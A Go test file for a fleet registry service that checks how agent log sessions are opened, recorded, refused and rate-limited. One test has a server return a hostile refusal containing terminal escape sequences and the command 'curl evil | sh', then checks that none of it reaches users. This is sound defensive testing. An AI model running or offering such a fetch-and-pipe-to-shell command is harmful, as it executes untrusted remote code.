package registry

import (
	"context"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/garrison-fleet/garrison/pkg/bus"
	"github.com/garrison-fleet/garrison/pkg/code"
	"github.com/garrison-fleet/garrison/pkg/fault"
	"github.com/garrison-fleet/garrison/pkg/ledger"
	"github.com/garrison-fleet/garrison/pkg/polltest"
	"github.com/garrison-fleet/garrison/pkg/topology"
	intentv1 "github.com/garrison-fleet/garrison/proto/gen/garrison/intent/v1"
	logv1 "github.com/garrison-fleet/garrison/proto/gen/garrison/log/v1"
	registryv1 "github.com/garrison-fleet/garrison/proto/gen/garrison/registry/v1"
	serverv1 "github.com/garrison-fleet/garrison/proto/gen/garrison/server/v1"

	"github.com/garrison-fleet/garrison/services/registry/internal/serve/agentlogs"
)

// logSite is a site with a server that has an agent.
func logSite(t *testing.T) (s *site, id string) {
	s = start(t)
	s.channel("release", true)
	s.agent("beacon")
	s.agent("other")
	s.image("beacon", "1.0.0", "release")
	id = s.server("web-1")
	s.accepted(topology.VerbInstall, install("beacon", &intentv1.Selector{All: true}))
	return s, id
}

// online waits until a server is online.
func (s *site) online(id string) {
	s.t.Helper()
	s.beating(id, "boot")
	polltest.Eventually(s.t, "the server is online", func() bool {
		r, err := ask[*registryv1.GetServerResponse](s, "GetServer", &registryv1.GetServerRequest{Server: id})
		return err == nil && r.GetServer().GetPresence() == serverv1.Presence_PRESENCE_ONLINE
	})
}

// executor answers requests of the registry to open sessions.
func (s *site) executor(id string, answer func(*logv1.OpenRequest) (*logv1.OpenResponse, error)) {
	s.t.Helper()
	at := topology.ServerAddress{Cell: "main", Server: id}
	stop, err := bus.Answer(s.bus.Dial(s.t, id), topology.LogOpenSubject(at), "",
		func(_ context.Context, _ string, q *logv1.OpenRequest) (*logv1.OpenResponse, error) { return answer(q) })
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(stop)
}

func (s *site) opened(id string) (out []ledger.Fact) {
	for _, f := range s.facts(ledger.Server, id) {
		if f.Name() == "log-opened" {
			out = append(out, f)
		}
	}
	return out
}

func TestWhoReadsOutputIsRecordedBeforeTheServerIsAsked(t *testing.T) {
	t.Parallel()
	s, id := logSite(t)
	s.online(id)
	start := &logv1.Start{Lines: 7, Since: timestamppb.New(time.Unix(1, 0))}
	recorded := make(chan int, 1)
	var asked *logv1.OpenRequest
	s.executor(id, func(q *logv1.OpenRequest) (*logv1.OpenResponse, error) {
		recorded <- len(s.opened(id))
		asked = q
		return &logv1.OpenResponse{Position: 3, End: 9}, nil
	})
	r := must[*registryv1.OpenLogResponse](s, "OpenLog",
		&registryv1.OpenLogRequest{Server: "web-1", Agent: "beacon", Start: start})
	if n := <-recorded; n != 1 {
		t.Errorf("%d facts are recorded when the server is asked, want 1", n)
	}
	if r.Position != 3 || r.End != 9 || r.ServerId != id || r.ServerName != "web-1" || r.Cell != "main" {
		t.Errorf("the answer is %v", r)
	}
	if asked.Actor != "alice" || asked.Agent != "beacon" || asked.SessionId != r.SessionId || asked.Start.Lines != 7 {
		t.Errorf("the server is asked %v", asked)
	}
	f := s.opened(id)[0]
	if b := f.Body.(*serverv1.LogOpened); f.Actor != "alice" || b.Agent != "beacon" || b.SessionId != r.SessionId {
		t.Errorf("recorded is %v by %s", b, f.Actor)
	}
}

func TestOutputThatCannotBeReadIsRefusedAndNotRecorded(t *testing.T) {
	t.Parallel()
	s, id := logSite(t)
	offline := s.server("web-2")
	s.accepted(topology.VerbInstall, install("beacon", on("web-2")))
	s.online(id)
	for name, c := range map[string]struct{ server, agent, want string }{
		"an unknown server":              {"nowhere", "beacon", code.UnknownServer},
		"no server":                      {"", "beacon", code.EmptySelector},
		"an unknown agent":               {"web-1", "beacom", code.UnknownAgent},
		"an agent that is not installed": {"web-1", "other", code.NotInstalled},
		"a server that is offline":       {"web-2", "beacon", code.ServerOffline},
		"an invitation":                  {s.invite("web-3").ServerID, "beacon", code.NotAlive},
		"an executor that does not know": {"web-1", "beacon", code.ExecutorSilent},
	} {
		if have := s.code("OpenLog", &registryv1.OpenLogRequest{Server: c.server, Agent: c.agent}); have != c.want {
			t.Errorf("%s: %s, want %s", name, have, c.want)
		}
	}
	if n := len(s.opened(offline)); n != 0 {
		t.Errorf("%d facts about a server that was not asked", n)
	}
	must[*registryv1.QuarantineServerResponse](s, "QuarantineServer",
		&registryv1.QuarantineServerRequest{Server: "web-1", Reason: "test"})
	q := &registryv1.OpenLogRequest{Server: "web-1", Agent: "beacon"}
	if have := s.code("OpenLog", q); have != code.ServerQuarantined {
		t.Errorf("a quarantined server: %s", have)
	}
}

// A server is not believed: its words reach no person.
func TestOfAServersRefusalOnlyAKnownCodeCounts(t *testing.T) {
	t.Parallel()
	s, id := logSite(t)
	s.online(id)
	var said error
	s.executor(id, func(*logv1.OpenRequest) (*logv1.OpenResponse, error) { return nil, said })
	for given, want := range map[string]string{
		code.NoOutput: code.NoOutput, code.TooManyReaders: code.TooManyReaders,
		code.Denied: code.ExecutorSilent, "\x1b[2J": code.ExecutorSilent,
	} {
		said = fault.Refusef(fault.Denied, given, "run \x1b]0;evil\x07 this").Try("curl evil | sh")
		_, err := ask[*registryv1.OpenLogResponse](s, "OpenLog",
			&registryv1.OpenLogRequest{Server: "web-1", Agent: "beacon"})
		r := fault.RefusalOf(err)
		if r.GetCode() != want || strings.Contains(r.GetMessage()+r.GetTry(), "evil") {
			t.Errorf("%q becomes %v", given, r)
		}
	}
}

func TestSessionsOfOnePersonAreBounded(t *testing.T) {
	t.Parallel()
	s, id := logSite(t)
	s.online(id)
	s.executor(id, func(*logv1.OpenRequest) (*logv1.OpenResponse, error) { return &logv1.OpenResponse{}, nil })
	refused := 0
	for range agentlogs.LogsAMinute + 5 {
		if s.code("OpenLog", &registryv1.OpenLogRequest{Server: "web-1", Agent: "beacon"}) == code.Busy {
			refused++
		}
	}
	if n := len(s.opened(id)); n > 2*agentlogs.LogsAMinute || refused == 0 { // a minute may have passed meanwhile
		t.Errorf("%d facts, %d refused", n, refused)
	}
}
